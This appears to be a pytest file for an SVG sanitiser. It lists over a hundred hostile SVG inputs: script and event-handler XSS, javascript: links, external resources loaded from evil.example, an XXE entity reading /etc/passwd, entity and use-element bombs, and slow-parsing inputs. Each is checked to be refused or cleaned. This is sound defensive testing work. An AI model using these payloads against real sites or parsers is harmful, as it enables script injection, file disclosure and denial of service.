"""No drawing, however crafted, keeps the build busy or gets anything out but shapes."""

import re
import resource
from itertools import pairwise

import pytest
import resvg_py
from defusedxml.ElementTree import fromstring
from hypothesis import given, settings
from hypothesis import strategies as st

from showcase.domain.limits import Limits
from showcase.reading.pictures import inspect
from showcase.reading.svg import SvgRefused, read_svg, rebuild

from .test_svg_exports import EXPORTS

LIMITS = Limits()
NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
DOT = '<path d="M0 0h9v9z"/>'
CLEANED, REFUSED = True, False

# Written down here a second time on purpose: what a published drawing may hold.
GEOMETRY = {"d", "points", "x", "y", "x1", "y1", "x2", "y2", "cx", "cy", "r", "rx", "ry", "fx", "fy", "fr"}
PAINT = {"fill", "stroke", "stop-color", "color", "opacity", "fill-opacity", "stroke-opacity", "stop-opacity"}
LINES = {"stroke-width", "stroke-dasharray", "stroke-dashoffset", "stroke-miterlimit", "stroke-linecap"}
OTHERS = {"width", "height", "viewBox", "transform", "id", "href", "offset", "clip-path", "fill-rule", "clip-rule"}
RARE = {"stroke-linejoin", "vector-effect", "display", "visibility", "gradientUnits", "gradientTransform"}
RAREST = {"spreadMethod", "clipPathUnits", "transform-origin", "paint-order"}
ATTRIBUTES = GEOMETRY | PAINT | LINES | OTHERS | RARE | RAREST
SHAPES = {"path", "rect", "circle", "ellipse", "line", "polyline", "polygon"}
ELEMENTS = SHAPES | {"svg", "g", "defs", "linearGradient", "radialGradient", "stop", "clipPath"}
HARMLESS = re.compile(r"#p\d+|url\(#p\d+\)|[-+#.,%()/ \w]*")


def svg(inside: str, attributes: str = 'viewBox="0 0 10 10"') -> bytes:
    return f"<svg {NAMESPACES} {attributes}>{inside}</svg>".encode()


def assert_harmless(data: bytes) -> None:
    assert not re.search(
        rb"[<]!|<\?|&|script|:|=\"[^\"]*url\((?!#p\d)", data.replace(b'"http://www.w3.org/2000/svg"', b"")
    )
    for element in fromstring(data).iter():
        assert element.tag.removeprefix("{http://www.w3.org/2000/svg}") in ELEMENTS
        assert element.attrib.keys() <= ATTRIBUTES
        assert all(HARMLESS.fullmatch(value) for value in element.attrib.values())
        assert element.get("href", "#p1").startswith("#p")


def of(inside: str) -> bytes:
    return svg(inside + DOT)


VECTORS = {
    "script": (of("<script>alert(1)</script>"), REFUSED),
    "script by reference": (of('<script xlink:href="https://evil.example/x.js"/>'), REFUSED),
    "script with a prefix": (of('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'), REFUSED),
    "script of another language": (of('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'), CLEANED),
    "script in capitals": (of("<SCRIPT>alert(1)</SCRIPT>"), REFUSED),
    "script in a group": (of("<g><defs><script/></defs></g>"), REFUSED),
    "script in CDATA": (of("<script><![CDATA[alert(1)]]></script>"), REFUSED),
    "script in a title": (of("<title><script>alert(1)</script></title>"), CLEANED),
    "script in a style": (of("<style><script>alert(1)</script></style>"), REFUSED),
    "script in metadata": (of("<metadata><script>alert(1)</script></metadata>"), CLEANED),
    "script in a comment": (of("<!--><script>alert(1)</script>-->"), CLEANED),
    "handler": (svg('<path onclick="alert(1)" d="M0 0h9v9z"/>'), CLEANED),
    "handler on the root": (svg(DOT, 'viewBox="0 0 9 9" onload="alert(1)"'), CLEANED),
    "handler in capitals": (svg('<path ONLOAD="alert(1)" d="M0 0h9v9z"/>'), CLEANED),
    "handler with a prefix": (svg('<path xlink:onload="alert(1)" d="M0 0h9v9z"/>'), CLEANED),
    "handler at the end of an animation": (svg('<path d="M0 0h9v9z"><animate onend="alert(1)"/></path>'), REFUSED),
    "link": (svg(f'<a href="javascript:alert(1)">{DOT}</a>'), REFUSED),
    "link with xlink": (svg(f'<a xlink:href="javascript:alert(1)">{DOT}</a>'), REFUSED),
    "link in entities": (svg(f'<a href="&#106;ava&#x73;cript:alert(1)">{DOT}</a>'), REFUSED),
    "link on a shape": (svg('<path href="javascript:alert(1)" d="M0 0h9v9z"/>'), CLEANED),
    "link of a gradient": (of('<linearGradient id="a" href="https://evil.example/#g"/>'), CLEANED),
    "web page": (of('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'), REFUSED),
    "web page by itself": (of('<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'), CLEANED),
    "frame without language": (of("<iframe/>"), REFUSED),
    "switch": (of("<switch><foreignObject/><g/></switch>"), REFUSED),
    "animation of a link": (of('<animate attributeName="href" values="javascript:alert(1)"/>'), REFUSED),
    "set": (of('<set attributeName="onmouseover" to="alert(1)"/>'), REFUSED),
    "animated motion": (of('<animateMotion><mpath href="#a"/></animateMotion>'), REFUSED),
    "handler element": (of('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"/>'), REFUSED),
    "picture": (of('<image href="https://evil.example/a.png"/>'), REFUSED),
    "picture in the file": (of('<image href="data:image/svg+xml;base64,AAAA"/>'), REFUSED),
    "picture in an unused filter": (of('<filter id="f"><feImage href="https://evil.example/a"/></filter>'), CLEANED),
    "picture in a filter": (
        svg('<path filter="url(#f)" d="M0 0"/><filter id="f"><feImage href="//evil"/></filter>'),
        REFUSED,
    ),
    "filter by style": (svg('<path style="filter:url(https://evil.example/#f)" d="M0 0"/>'), REFUSED),
    "mask from outside": (svg('<path mask="url(https://evil.example/#m)" d="M0 0"/>'), REFUSED),
    "marker from outside": (svg('<path marker-start="url(https://evil.example/#m)" d="M0 0"/>'), REFUSED),
    "cursor": (svg('<path cursor="url(https://evil.example/c)" style="cursor:url(//e)" d="M0 0h9v9z"/>'), CLEANED),
    "cursor element": (of('<cursor href="https://evil.example/c"/>'), REFUSED),
    "colour profile": (of('<color-profile name="p" xlink:href="https://evil.example/p.icc"/>'), CLEANED),
    "import": (of("<style>@import url(https://evil.example/a.css);</style>"), REFUSED),
    "import in a string": (of('<style>@import "https://evil.example/a.css";.a{fill:red}</style>'), REFUSED),
    "import in a comment": (of("<style>/*@import url(//evil)*/.a{fill:red}</style>"), CLEANED),
    "font from outside": (of("<style>@font-face{font-family:a;src:url(https://evil.example/f)}</style>"), CLEANED),
    "address in a rule": (
        svg("<style>.a{fill:url(https://evil.example/a#b)}</style>" + '<path class="a" d="M0"/>'),
        REFUSED,
    ),
    "address in fill": (svg('<path fill="url(https://evil.example/a#b)" d="M0 0"/>'), REFUSED),
    "address without scheme": (svg('<path fill="url(//evil.example/a#b)" d="M0 0"/>'), REFUSED),
    "escaped address": (svg('<path fill="u\\72l(https://evil.example/a)" d="M0 0"/>'), REFUSED),
    "escaped in style": (svg('<path style="fill:\\75rl(https://evil.example/a)" d="M0 0"/>'), REFUSED),
    "address behind a comment": (svg('<path style="fill:u/**/rl(https://evil.example)" d="M0 0"/>'), REFUSED),
    "background": (svg('<path style="background:url(https://evil.example)" d="M0 0h9v9z"/>'), CLEANED),
    "variable": (svg('<path style="--a:url(//evil);fill:var(--a)" d="M0 0"/>'), REFUSED),
    "image set": (svg('<path fill="image-set(\'https://evil.example/a\' 1x)" d="M0 0"/>'), REFUSED),
    "address in a clip": (svg('<path clip-path="url(a.svg#c)" d="M0 0"/>'), REFUSED),
    "address in a transform": (svg('<path transform="url(x)" d="M0 0"/>'), REFUSED),
    "address in a path": (svg('<path d="M0 0 url(x)"/>'), REFUSED),
    "style that breaks out": (svg('<path fill="red&quot; onload=&quot;alert(1)" d="M0 0"/>'), REFUSED),
    "id that breaks out": (
        svg('<linearGradient id="a&quot;onload=&quot;x"/><path fill="url(#a&quot;onload=&quot;x)" d="M0 0"/>'),
        REFUSED,
    ),
    "style sheet from outside": (b'<?xml-stylesheet href="https://evil.example/a.css"?>' + svg(DOT), CLEANED),
    "style sheet instruction inside": (of('<?xml-stylesheet href="data:text/css,x"?>'), CLEANED),
    "entity": (b'<!DOCTYPE svg [<!ENTITY a "b">]>' + of("<title>&a;</title>"), REFUSED),
    "external entity": (
        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + of("<title>&a;</title>"),
        REFUSED,
    ),
    "parameter entity": (b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]>' + svg(DOT), REFUSED),
    "bomb of entities": (
        b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(b'<!ENTITY %c "%s">' % (n + 1, b"&%c;" % n * 10) for n in range(97, 110))
        + b"]>"
        + of("<title>&n;</title>"),
        REFUSED,
    ),
    "attributes by default": (b'<!DOCTYPE svg [<!ATTLIST path onload CDATA "alert(1)">]>' + svg(DOT), REFUSED),
    "definitions behind a bracket": (b'<!DOCTYPE svg PUBLIC "a>b" "c" [<!ATTLIST g a CDATA "b">]>' + svg(DOT), REFUSED),
    "definitions outside": (b'<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd">' + svg(DOT), CLEANED),
    "entity defined outside": (b'<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd">' + of("<g>&a;</g>"), REFUSED),
    "UTF-7": (b'<?xml version="1.0" encoding="UTF-7"?>' + of("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), CLEANED),
    "UTF-16": (svg(DOT).decode().encode("utf-16"), REFUSED),
    "UTF-32": (svg(DOT).decode().encode("utf-32"), REFUSED),
    "GB18030": (of("<title>标识</title>").decode().encode("gb18030"), REFUSED),
    "compressed": (b"\x1f\x8b\x08\x00" + svg(DOT), REFUSED),
    "two roots": (svg(DOT) + b"<script/>", REFUSED),
    "page behind": (svg(DOT) + b"\n<html><script>alert(1)</script></html>", REFUSED),
    "other root": (b"<html><svg/></html>", REFUSED),
    "other language": (f'<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9">{DOT}</svg>'.encode(), REFUSED),
    "nothing": (b"", REFUSED),
    "NUL": (svg("\0" + DOT), REFUSED),
    "text": (of("<text>加我 evil</text>"), REFUSED),
    "text in a span": (of("<text><tspan>加我</tspan></text>"), REFUSED),
    "use from outside": (of('<use href="https://evil.example/a.svg#b"/>'), REFUSED),
    "use of data": (of('<use href="data:image/svg+xml,x#b"/>'), REFUSED),
    "use of a script": (of('<use href="#s"/><metadata><script id="s"/></metadata>'), REFUSED),
    "use of itself": (of('<g id="a"><use href="#a"/></g>'), REFUSED),
    "use in a ring": (of('<use id="a" href="#b"/><use id="b" href="#a"/>'), REFUSED),
    "use of the whole": (f'<svg {NAMESPACES} id="a" viewBox="0 0 9 9">{DOT}<use href="#a"/></svg>'.encode(), REFUSED),
    "use bomb": (
        of(
            f'<g id="a0">{DOT}</g>'
            + "".join(f'<g id="a{n}">' + f'<use href="#a{m}"/>' * 10 + "</g>" for m, n in pairwise(range(9)))
        ),
        REFUSED,
    ),
    "use bomb of a long path": (
        of(f'<path id="a" d="{"l1 1" * 9000}"/>' + '<use href="#a"/>' * 2500),
        REFUSED,
    ),
    "drawing in a drawing": (of(f"<svg>{DOT}</svg>"), REFUSED),
    "endless number": (svg('<path d="M0 0L1e999 1e999"/>'), REFUSED),
    "far away": (svg('<circle r="1e9" cx="1e9"/>'), REFUSED),
    "enlarged": (svg('<g transform="scale(9999)">' * 3 + DOT + "</g>" * 3), REFUSED),
    "enlarged by a matrix": (svg('<g transform="matrix(9999 0 0 9999 0 0)">' * 3 + DOT + "</g>" * 3), REFUSED),
    "no number": (svg(DOT, 'viewBox="0 0 NaN 10"'), REFUSED),
    "endless canvas": (svg(DOT, 'viewBox="0 0 1e999 10"'), REFUSED),
    "dashes": (svg('<path d="M0 5h10" stroke-dasharray="1e-9"/>' * 9), REFUSED),
    "dashes from a group": (svg('<g stroke-dasharray="0.00001">' + '<path d="M0 5h10"/>' * 9 + "</g>"), REFUSED),
    "curves far out": (svg('<path stroke="red" d="M0 0' + "c9e4 9e4 -9e4 9e4 0 0" * 9000 + '"/>'), REFUSED),
    "gradients in a ring": (
        of('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><path fill="url(#a)" d="M0 0"/>'),
        CLEANED,
    ),
    "clips in a ring": (
        of('<clipPath id="a" clip-path="url(#a)"><path d="M0 0"/></clipPath><path clip-path="url(#a)" d="M0 0"/>'),
        REFUSED,
    ),
    "pattern": (svg('<pattern id="p"><script/></pattern><path fill="url(#p)" d="M0 0"/>'), REFUSED),
    "too deep": (svg("<g>" * 50_000), REFUSED),
    "too many": (svg("<g/>" * 20_000 + DOT), REFUSED),
    "long style": (svg(f'<style>.a{{stroke-dasharray:{"1 " * 900}}}</style><path class="a" d="M0 0"/>'), REFUSED),
}


@pytest.mark.parametrize(("data", "cleaned"), VECTORS.values(), ids=VECTORS)
def test_a_hostile_drawing_is_refused_or_cleaned(data: bytes, cleaned: bool) -> None:
    try:
        rebuilt = read_svg(data, LIMITS).data
    except SvgRefused as refused:
        assert not cleaned, refused.sentence
        assert re.search(r"[请交].*。$", refused.sentence), "says what to do"
        assert not re.search(r"[<>&\x00-\x1f]|.{141}|[a-z]{4,} [a-z]{3,} [a-z]{3,}", refused.sentence)
        return
    assert cleaned, rebuilt
    assert_harmless(rebuilt)
    assert rebuild(rebuilt) == rebuilt


def test_sentences_show_no_more_than_a_little_of_the_file() -> None:
    with pytest.raises(SvgRefused) as caught:
        read_svg(svg(f'<path fill="\u202e{"坏" * 500}"/>'), LIMITS)
    assert "□坏坏" in caught.value.sentence and "坏" * 30 not in caught.value.sentence


SLOW = {
    "blanks": b" " * 250_000 + svg(DOT),
    "blanks before a declaration": b" " * 250_000 + b"<?xml version='1.0'?>" + svg(DOT),
    "doctypes": b"<!DOCTYPE " * 26_000,
    "attributes": svg("<path " + " ".join(f'a{n}="1"' for n in range(20_000)) + ' d="M0 0h9v9z"/>'),
    "languages": svg("<path " + " ".join(f'xmlns:a{n}="u{n}"' for n in range(10_000)) + "/>" + DOT),
    "letters in a style sheet": svg("<style>" + "a" * 250_000 + "</style>" + DOT),
    "open comments": svg("<style>" + "/* " * 80_000 + "</style>" + DOT),
    "open braces": svg("<style>" + "{" * 250_000 + "</style>" + DOT),
    "rules": svg("<style>" + ".a{fill:red}" * 10_000 + "</style>" + '<path class="a" d="M0 0"/>' * 2900),
    "classes": svg(
        "<style>" + "".join(f".a{n}{{fill:red;opacity:1}}" for n in range(2000)) + "</style>"
        + ('<path class="' + " ".join(f"a{n}" for n in range(30)) + '" d="M0 0"/>') * 900
    ),
    "a long length": svg(DOT, 'width="' + "1" * 250_000 + 'x"'),
    "a long transform": svg('<path transform="' + "rotate(1) ,, " * 19_000 + '!" d="M0 0"/>'),
    "a long reference": svg('<path fill="url(#' + "a " * 120_000 + '!" d="M0 0"/>'),
    "dots": svg('<path q="' + "." * 120_000 + '!" d="' + "." * 120_000 + '"/>'),
    "a path": svg('<path d="M0 0' + "l1 1" * 60_000 + '"/>'),
    "clips": svg('<clipPath id="c">' + DOT * 2000 + "</clipPath>" + '<path clip-path="url(#c)" d="M0 0"/>' * 900),
    "a ring of gradients": svg("".join(f'<linearGradient id="g{n}" href="#g{(n + 1) % 2900}"/>' for n in range(2900))),
    "uses": svg("".join(f'<use id="a{n}" href="#a{n - 1}"/>' for n in range(1, 2900)) + '<path id="a0" d="M0"/>'),
    "comments": svg("<!---->" * 36_000 + DOT),
}  # fmt: skip


@pytest.mark.parametrize("data", SLOW.values(), ids=SLOW)
def test_the_largest_files_are_judged_at_once(data: bytes) -> None:
    assert len(data) < 256 * 1024 + 200
    start = resource.getrusage(resource.RUSAGE_SELF).ru_utime
    inspect(data)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_utime - start < 1


PIECES = st.sampled_from(
    b"""<g> </g> <use\thref='#a'/> <script/> <![CDATA[ ]]> <!-- --> &#0; &amp; <?x \tid='a' \tfill='url(#a)'
    \tstyle='fill: </svg> <svg> \xff\xfe \xef\xbb\xbf 1e999 <style> </style> .a{ } url( matrix(1 scale(1e9) \0
    <symbol\tid='a'\tviewBox='0,0,1,1'> </symbol>""".split(b" ")
)


@settings(deadline=None, max_examples=200, derandomize=True)
@given(st.sampled_from(EXPORTS), st.lists(st.tuples(st.integers(0, 4000), st.integers(0, 40), PIECES), max_size=4))
def test_a_spoilt_export_is_refused_or_harmless(path: object, changes: list[tuple[int, int, bytes]]) -> None:
    data = path.read_bytes()  # type: ignore[attr-defined]
    for place, removed, added in changes:
        data = data[:place] + added + data[place + removed :]
    try:
        picture = read_svg(data, LIMITS)
    except SvgRefused:
        assert inspect(data).fault
        return
    assert_harmless(picture.data)
    assert rebuild(picture.data) == picture.data


@settings(deadline=None, max_examples=200, derandomize=True)
@given(st.one_of(st.binary(max_size=200), st.text(max_size=200).map(lambda text: svg(text))))
def test_any_bytes_are_judged(data: bytes) -> None:
    facts = inspect(data)
    assert facts.fault or facts.width


NUMBERS = st.one_of(st.floats(-1e5, 1e5), st.sampled_from([0.0, 1e-9, -1e-30, 9e4, 1e5, 1e-45])).map(
    lambda x: f"{x:.3g}"
)
TRANSFORMS = st.builds("{}({})".format, st.sampled_from(["scale", "translate", "rotate", "skewX", "skewY"]), NUMBERS)

MEASURED = [("circle", "cx cy r"), ("rect", "x y width height rx"), ("ellipse", "cx cy rx ry"), ("line", "x1 y1 x2 y2")]


@st.composite
def shapes(draw: st.DrawFn) -> str:
    name, keys = draw(
        st.sampled_from(
            [
                ("circle", "cx cy r"),
                ("rect", "x y width height rx"),
                ("ellipse", "cx cy rx ry"),
                ("line", "x1 y1 x2 y2"),
            ]
        )
    )
    written = "".join(f' {key}="{draw(NUMBERS)}"' for key in keys.split())
    line = draw(st.sampled_from(["", ' stroke="red"', ' stroke="red" stroke-width="9e4"', ' stroke-dasharray="3 1"']))
    path = "".join(
        f"{letter}{draw(NUMBERS)} {draw(NUMBERS)} " for letter in draw(st.text("MLlTt", min_size=1, max_size=4))
    )
    group = f'<g transform="{draw(TRANSFORMS)}"><{name}{written}{line}/></g>'
    return group + f'<path d="M0 0{path}" fill="url(#a)"{line}/>'


@settings(deadline=None, max_examples=100, derandomize=True)
@given(st.lists(shapes(), min_size=1, max_size=3))
def test_whatever_is_accepted_can_be_drawn(parts: list[str]) -> None:
    gradient = '<linearGradient id="a"><stop stop-color="red"/><stop offset="1"/></linearGradient>'
    try:
        rebuilt = read_svg(svg(gradient + "".join(parts)), LIMITS).data
    except SvgRefused:
        return
    assert resvg_py.svg_to_bytes(svg_string=rebuilt.decode(), width=64)


GRADIENT = '<linearGradient id="a"><stop offset="0" stop-color="#f00"/></linearGradient>'
WHOLE = '<rect width="10" height="10"{}/>'


@pytest.mark.parametrize(
    ("drawing", "most"),
    [
        (WHOLE.format(' fill="url(#a)"'), 400),
        (WHOLE.format(' opacity=".5"'), 533),
        (WHOLE.format(' fill-opacity=".5"'), 1600),
        (f'<g fill="url(#a)" stroke="url(#a)">{WHOLE.format("")}</g>', 200),
    ],
)
def test_a_drawing_mixes_colours_so_often_and_no_more(drawing: str, most: int) -> None:
    """Each of these takes its milliseconds when it is drawn over the whole canvas."""
    limits = Limits(svg_elements=100_000, svg_kilobytes=10_000)
    read_svg(svg(GRADIENT + drawing * most), limits)
    with pytest.raises(SvgRefused, match="渐变、透明和剪切太多：请减少效果"):
        read_svg(svg(GRADIENT + drawing * (most + 1)), limits)
